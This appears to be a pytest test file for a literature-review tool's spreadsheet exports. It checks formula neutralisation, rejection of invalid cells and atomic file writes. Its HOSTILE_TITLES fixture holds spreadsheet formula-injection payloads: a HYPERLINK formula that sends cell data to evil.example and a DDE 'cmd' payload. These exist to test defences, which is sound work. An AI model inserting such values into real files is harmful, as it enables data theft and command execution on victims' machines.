"""Exports a spreadsheet opens: formula-like text made inert (CSV: a leading
', undone on import; xlsx: string cells, never formulas), cells a
spreadsheet cannot hold refused with record and column, every file written
atomically with the user's umask, records streamed."""
from __future__ import annotations

import csv
import json
import os
import zipfile

import pytest

from metail2._spreadsheet import restore
from metail2.cli import main

from tests.review.conftest import fill

HOSTILE_TITLES = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+cmd|' /C calc'!A0", "@SUM(1+1)",
                  "-2+3 first", "-1.5"]


@pytest.fixture
def review(tmp_path, capsys):
    ris = tmp_path / "hostile.ris"
    ris.write_text("".join(f"TY  - JOUR\nTI  - {t}\nAU  - Okuno, K\nPY  - {2000 + i}\nER  - \n\n"
                           for i, t in enumerate(HOSTILE_TITLES)), encoding="utf-8")
    db = str(tmp_path / "s.sqlite")
    assert main(["records", "import", str(ris), "--db", db]) == 0
    capsys.readouterr()
    return db


def test_csv_exports_neutralise_formulas_and_import_restores_them(review, tmp_path, capsys):
    out = tmp_path / "ta.csv"
    assert main(["screen", "export", "--db", review, "--csv", str(out)]) == 0
    titles = [r["title"] for r in csv.DictReader(open(out, encoding="utf-8"))]
    assert titles == ["'" + t for t in HOSTILE_TITLES[:4]] + ["-1.5"]  # a plain number is a number
    assert [restore(t) for t in titles] == HOSTILE_TITLES
    fill(out, out, {})
    rows = list(csv.DictReader(open(out, encoding="utf-8")))
    rows[0]["decision"], rows[0]["reason"] = "exclude", "'- not a trial"  # as a spreadsheet may save it
    with open(out, "w", newline="", encoding="utf-8") as f:
        w = csv.DictWriter(f, fieldnames=list(rows[0]))
        w.writeheader()
        w.writerows(rows)
    assert main(["screen", "import", str(out), "--db", review, "--reviewer", "A"]) == 0
    rec = tmp_path / "records.csv"
    assert main(["records", "export", "--db", review, "--format", "csv", "-o", str(rec)]) == 0
    got = list(csv.DictReader(open(rec, encoding="utf-8")))
    assert [r["title"] for r in got] == titles and [r["authors"] for r in got] == ["Okuno K"] * 5
    capsys.readouterr()
    assert main(["records", "export", "--db", review, "--format", "jsonl"]) == 0
    assert [json.loads(x)["title"] for x in capsys.readouterr().out.splitlines()] == HOSTILE_TITLES


def test_xlsx_export_writes_text_never_formulas(review, tmp_path):
    from openpyxl import load_workbook

    out = tmp_path / "ta.xlsx"
    assert main(["screen", "export", "--db", review, "--xlsx", str(out)]) == 0
    ws = load_workbook(out).active
    cells = [ws.cell(row=i, column=6) for i in range(2, 7)]
    assert [c.value for c in cells] == HOSTILE_TITLES and {c.data_type for c in cells} == {"s"}
    with zipfile.ZipFile(out) as z:
        assert "<f>" not in z.read("xl/worksheets/sheet1.xml").decode()


def test_a_cell_a_spreadsheet_cannot_hold_is_refused_with_record_and_column(tmp_path, capsys):
    ris = tmp_path / "x.ris"
    ris.write_text("TY  - JOUR\nTI  - A title with a vertical tab \x0b pasted in\nPY  - 2001\nER  - \n"
                   f"TY  - JOUR\nTI  - Long\nAB  - {'x' * 40000}\nPY  - 2002\nER  - \n")
    db = str(tmp_path / "s.sqlite")
    assert main(["records", "import", str(ris), "--db", db]) == 0
    for flag, name in (("--csv", "ta.csv"), ("--xlsx", "ta.xlsx")):
        out = tmp_path / name
        out.write_text("an earlier sheet")
        capsys.readouterr()
        assert main(["screen", "export", "--db", db, flag, str(out)]) == 2
        assert capsys.readouterr().err.splitlines() == [
            f"{out}:2: 1: title: control character U+000B at character 29: remove it (it cannot be stored in a "
            "spreadsheet and is usually a paste accident)",
            f"{out}:3: 2: abstract: 40,000 characters, more than a spreadsheet cell holds (32,767): shorten it or "
            "move the text to a file and give its path"]
        assert out.read_text() == "an earlier sheet" and not [p for p in os.listdir(tmp_path) if ".tmp" in p]


@pytest.mark.parametrize("mask", [0o022, 0o077])
def test_exports_are_atomic_with_the_users_umask(review, tmp_path, mask):
    old = os.umask(mask)
    try:
        outs = {"records.jsonl": ["records", "export", "--db", review, "--format", "jsonl", "-o"],
                "ta.csv": ["screen", "export", "--db", review, "--csv"],
                "ta.xlsx": ["screen", "export", "--db", review, "--xlsx"]}
        for name, argv in outs.items():
            assert main(argv + [str(tmp_path / name)]) == 0
            assert (tmp_path / name).stat().st_mode & 0o777 == 0o666 & ~mask, name  # mkstemp alone made 0600
            os.chmod(tmp_path / name, 0o640)
            assert main(argv + [str(tmp_path / name)]) == 0
            assert (tmp_path / name).stat().st_mode & 0o777 == 0o640, name  # a replaced file keeps its mode
    finally:
        os.umask(old)


def test_an_export_that_fails_leaves_the_old_file(review, tmp_path, capsys, monkeypatch):
    import metail2.review

    out = tmp_path / "records.csv"
    out.write_text("the previous export\n")

    def failing(rows, fmt, stream):
        stream.write("pmid,doi\n1,")
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(metail2.review, "write_records", failing)
    assert main(["records", "export", "--db", review, "--format", "csv", "-o", str(out)]) == 2
    assert capsys.readouterr().err == "metail2: error: No space left on device\n"
    assert out.read_text() == "the previous export\n"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["hostile.ris", "records.csv", "s.sqlite"]
    monkeypatch.undo()
    assert main(["records", "export", "--db", review, "--format", "csv", "-o", str(tmp_path / "no" / "x.csv")]) == 2
    assert "No such file or directory" in capsys.readouterr().err


@pytest.mark.parametrize("fmt", ["jsonl", "csv", "ris"])
def test_a_file_export_equals_the_streamed_output(review, tmp_path, capsys, fmt):
    out = tmp_path / f"x.{fmt}"
    assert main(["records", "export", "--db", review, "--format", fmt, "-o", str(out)]) == 0
    assert capsys.readouterr().err == f"5 records written to {out}\n"
    assert main(["records", "export", "--db", review, "--format", fmt]) == 0
    assert capsys.readouterr().out == out.read_text(encoding="utf-8")


def test_an_export_piped_into_head_stops_quietly(review, tmp_path):
    import subprocess
    import sys

    from tests.conftest import ROOT

    big = tmp_path / "many.ris"
    big.write_text("".join(f"TY  - JOUR\nTI  - Record {i}\nAB  - {'text ' * 200}\nER  - \n" for i in range(3000)))
    assert main(["records", "import", str(big), "--db", review]) == 0
    p = subprocess.run(f"{sys.executable} -m metail2 records export --db {review} --format jsonl | head -1",
                       shell=True, cwd=ROOT, env={**os.environ, "PYTHONPATH": str(ROOT)}, capture_output=True,
                       text=True)
    assert p.stdout.count("\n") == 1 and p.stderr == ""
